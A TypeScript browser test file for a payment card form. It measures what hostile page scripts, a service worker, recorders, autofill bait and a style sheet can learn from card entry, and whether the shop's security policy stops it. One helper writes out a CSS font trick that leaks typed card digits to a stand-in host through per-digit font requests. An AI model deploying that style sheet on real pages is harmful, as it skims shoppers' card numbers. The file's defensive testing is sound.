import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { baited, fillIn, layBait, savedCard } from './support/autofill.ts';
import { desktopBrowser, sharedBrowser } from './support/browser.ts';
import { putFrameIntoHtml } from './support/frame-of-html.ts';
import { watchedCard as card, leaksOf, publishedLeaks } from './support/published-leaks.ts';
import { compose, copyElsewhere, drag, dropFromOutside, paste } from './support/real-input.ts';
import { recordersScript } from './support/recorders.ts';
import {
  channels,
  install,
  leakEverywhere,
  noteFonts,
  type Seen,
  searchPage,
  spy,
  worker,
} from './support/spy.ts';
import { cardPlaces, useStage } from './support/use-stage.ts';

const recorders = await recordersScript();

/**
 * A person on a page that everybody watches who can be in it. The page has no policy: a strict one, as the shop's, keeps out
 * the service worker.
 */
async function beWatched(stage: ReturnType<typeof useStage>, openBrowser = sharedBrowser, isOfHtml = false) {
  await stage.enter({ bypassCSP: true }, openBrowser);
  const { checkout, context, page, world } = stage;
  if (isOfHtml) await putFrameIntoHtml(context, world.shop.url);
  await page.addInitScript(spy);
  await page.addInitScript({ content: recorders });
  const script = { contentType: 'text/javascript', body: worker };
  await context.route('**/watcher.js', (route) => route.fulfill(script));
  await checkout.visit();
  await page.evaluate(install, '/watcher.js');
  return { checkout, context, page, world };
}

/** Enters a card in each way that a person can: the number pasted, dropped and typed, the code composed, copied and dragged. */
async function enterInEveryWay({ checkout, context, page }: ReturnType<typeof useStage>): Promise<void> {
  const number = checkout.card.field('number');
  const code = checkout.card.field('code');
  const holder = checkout.card.field('holder');
  const entered = async (name: 'number' | 'code' | 'holder') =>
    expect
      .poll(async () => (await checkout.card.entry())[name].replaceAll(' ', ''))
      .toBe(name === 'number' ? card.number : card.code);
  await copyElsewhere(context, card.number);
  await paste(number);
  await entered('number');
  await checkout.card.fill({ number: '' });
  await dropFromOutside(page, number, card.number);
  await entered('number');
  await code.focus();
  await compose(page, card.code);
  await entered('code');
  await code.press('ControlOrMeta+a');
  await code.press('ControlOrMeta+c');
  await drag(page, code, holder);
  await entered('holder');
  await checkout.card.fill(card);
}

const places = [
  ...cardPlaces.map((place) => ({ name: place, place, isOfHtml: false })),
  { name: 'frame that the HTML has', place: 'frame', isOfHtml: true },
] as const;

describe.each(places)('a script of the page, with the card in a $name,', ({ place, isOfHtml }) => {
  const stage = useStage({ card: place });

  it('sees what is typed, pasted, dropped, dragged and composed in the channels that the documents name, and in no other', async () => {
    const { checkout, context, page, world } = await beWatched(stage, sharedBrowser, isOfHtml);
    await checkout.order();
    await page.evaluate(noteFonts);
    await enterInEveryWay(stage);
    world.cards.fail({ hold: true });
    const sent = world.cards.nextRequest();
    await checkout.pressPay();
    await sent;
    await page.evaluate(searchPage);
    const seen: Seen = await page.evaluate(() => window.spied);
    world.cards.release();
    await checkout.arriveAt('Pago aprobado');
    expect(leaksOf(seen)).toEqual([...publishedLeaks[place]].sort());
    const session = await context.newCDPSession(page);
    expect(leaksOf({ tree: JSON.stringify(await session.send('Accessibility.getFullAXTree')) })).toEqual([]);
  });
});

describe('a browser that fills in the frame', () => {
  const stage = useStage({ card: 'frame' });

  it('puts nothing in hidden fields of a page whose scripts and recorders look there', async () => {
    const { checkout, context, page } = await beWatched(stage, desktopBrowser);
    await checkout.order();
    await page.evaluate(layBait, '');
    await page.evaluate(noteFonts);
    await fillIn(context, page);
    await expect.poll(async () => (await checkout.card.entry()).holder).toBe(savedCard.name);
    await page.evaluate(searchPage);
    const seen: Seen = await page.evaluate(() => window.spied);
    expect(leaksOf(seen)).toEqual([]);
    expect(Object.keys(seen).filter((channel) => seen[channel]?.includes(savedCard.name))).toEqual([]);
    expect(new Set(await page.evaluate(baited))).toEqual(new Set(['']));
  });
});

/** A style sheet that asks somebody for a font for each digit that it shows, and what was asked for. */
async function serveFonts({ context }: ReturnType<typeof useStage>) {
  const asked = new Set<string>();
  await context.route('https://fonts.example/*', (route) => {
    asked.add(route.request().url().slice(-1));
    return route.abort();
  });
  const faces = [...'0123456789'].map(
    (digit) =>
      `@font-face { font-family: spy; src: url(https://fonts.example/${digit}); unicode-range: U+3${digit} }`,
  );
  return { asked, sheet: `${faces.join('\n')}\npay-card-form { font-family: spy }` };
}

/** Every font that a document has asked for has come or has failed. */
async function fontsSettled({ page }: ReturnType<typeof useStage>): Promise<void> {
  for (const frame of page.frames())
    await frame.evaluate(async () => {
      await new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted)));
      await document.fonts.ready;
    });
}

describe.each([
  ['page', ['0', '5', '6', '7', '8']], // without those that placeholders and hints show
  ['frame', []],
] as const)('a style sheet alone, with the card in a %s,', (place, expected) => {
  const stage = useStage({ card: place });

  it('reads which digits occur in the page, where that has no policy, and none in the frame', async () => {
    await stage.enter({ bypassCSP: true });
    const { checkout, page } = stage;
    const { asked, sheet } = await serveFonts(stage);
    await checkout.order();
    await page.addStyleTag({ content: sheet });
    await fontsSettled(stage);
    const before = new Set(asked);
    await checkout.card.fill(card);
    await fontsSettled(stage);
    expect([...asked].filter((digit) => !before.has(digit)).sort()).toEqual(expected);
  });
});

describe('a style sheet', () => {
  const stage = useStage();

  it('gets no font from elsewhere for a digit, under the policy of the shop', async () => {
    const { checkout, page } = stage;
    const { asked, sheet } = await serveFonts(stage);
    await checkout.order();
    const refused = page.evaluate(
      (css) =>
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
          const own = new CSSStyleSheet();
          own.replaceSync(css);
          document.adoptedStyleSheets.push(own); // a `<style>` is refused as such
        }),
      sheet,
    );
    await checkout.card.fill(card);
    expect(await refused).toBe('font-src');
    await fontsSettled(stage);
    expect([...asked]).toEqual([]);
  });
});

describe('the spy', () => {
  const stage = useStage();

  it('sees a leak in each channel', async () => {
    const { page } = await beWatched(stage);
    await page.evaluate(leakEverywhere, card.number);
    await page.evaluate(searchPage);
    expect(leaksOf(await page.evaluate(() => window.spied))).toEqual([...channels].sort());
    expect(publishedLeaks.page.every((channel) => channels.includes(channel))).toBe(true);
  });
});

const read = (page: string) =>
  readFileSync(new URL(`../../apps/docs/pages/${page}`, import.meta.url), 'utf8');

describe('the documents', () => {
  it.each(['security.md', 'accessibility.md', 'es/security.md'])('count the channels right: %s', (page) => {
    const numbers = [...read(page).matchAll(/(\d+) (?:places|lugares)/g)].map(([, number]) => Number(number));
    expect(new Set(numbers)).toEqual(new Set([channels.length]));
  });

  it.each(['security.md', 'es/security.md'])('count those of the page right: %s', (page) => {
    const [, number] =
      /(?:a script of the page sees them in|un script de la página los ve en) (\d+)/.exec(read(page)) ?? [];
    expect(Number(number)).toBe(publishedLeaks.page.length);
  });
});
